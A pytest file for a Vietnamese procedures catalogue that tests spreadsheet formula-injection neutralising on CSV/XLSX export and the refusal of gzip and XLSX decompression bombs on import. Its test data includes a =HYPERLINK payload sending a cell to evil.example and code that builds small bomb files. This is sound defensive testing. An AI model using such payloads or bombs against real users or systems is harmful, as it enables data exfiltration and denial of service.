"""Exported files start no formula; imports refuse what unpacks too far (gzip and XLSX bombs)."""

from __future__ import annotations

import csv
import gzip
import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from procedures_catalog.exporters import write_csv, write_xlsx
from procedures_catalog.importers import read_file
from procedures_catalog.records import ProcedureRecord, RecordError

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Xem")', "+1+1", "-2+3", "@SUM(A1:A2)",
    "'=already quoted", "''+twice",
]
# Leading blanks are cleaned away on import, so these are checked without a round trip.
BLANK_LED = ["\t=1+1", "\r=1+1"]
HARMLESS = ["50.000 đồng", "Không", "'quoted but harmless", "", "1.001193"]


def record(code: str, fees: str) -> ProcedureRecord:
    return ProcedureRecord(code=code, name=f"Thủ tục {code}", level="xa", online_level="mot_phan",
                           fees=fees, steps=fees, documents=["Tờ khai", fees] if fees else ["Tờ khai"])


@pytest.mark.parametrize("value", FORMULAS + BLANK_LED + HARMLESS)
def test_neutralise_is_undone_exactly_by_restore(value: str) -> None:
    from procedures_catalog.safe_files import neutralise, restore

    assert restore(neutralise(value)) == value
    if value not in HARMLESS:
        assert neutralise(value).startswith("'")
    if value in HARMLESS:
        assert neutralise(value) == value


def _records() -> list[ProcedureRecord]:
    return [record(f"9.{n:06d}", value) for n, value in enumerate(FORMULAS + HARMLESS)]


def test_csv_export_starts_no_formula_and_reads_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    write_csv(path, _records())
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    read = {r.code: r for r in read_file(path).records}
    assert [read[r.code].fees for r in _records()] == FORMULAS + HARMLESS


def test_xlsx_export_holds_text_not_formulas_and_reads_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx(path, _records())
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.worksheets[0]
    kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value}
    workbook.close()
    assert "f" not in kinds, "a cell was stored as a formula"
    read = {r.code: r for r in read_file(path).records}
    assert [read[r.code].fees for r in _records()] == FORMULAS + HARMLESS


# --- bombs ----------------------------------------------------------------------------------
@pytest.fixture
def one_mb_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CATALOG_IMPORT_MAX_UNPACKED_MB", "1")


def test_a_gzip_bomb_is_refused_before_it_is_inflated(tmp_path: Path, one_mb_limit: None) -> None:
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress(b"code,name\n" + b"9" * (50 * 1024 * 1024), 9))
    assert path.stat().st_size < 100_000
    started = time.monotonic()
    with pytest.raises(RecordError, match="unpacks to more than 1 MB") as error:
        read_file(path)
    assert time.monotonic() - started < 2
    assert error.value.source == "bomb.csv.gz"


def test_a_small_gzip_file_is_still_read(tmp_path: Path, one_mb_limit: None) -> None:
    plain = tmp_path / "small.csv"
    write_csv(plain, _records())
    path = tmp_path / "small.csv.gz"
    path.write_bytes(gzip.compress(plain.read_bytes()) + gzip.compress(b""))  # two members
    assert len(read_file(path).records) == len(_records())


def test_an_xlsx_whose_parts_inflate_too_far_is_refused(tmp_path: Path, one_mb_limit: None) -> None:
    path = tmp_path / "bomb.xlsx"
    write_xlsx(path, _records())
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * (20 * 1024 * 1024))
    assert path.stat().st_size < 200_000
    with pytest.raises(RecordError, match="unpacks to more than 1 MB"):
        read_file(path)
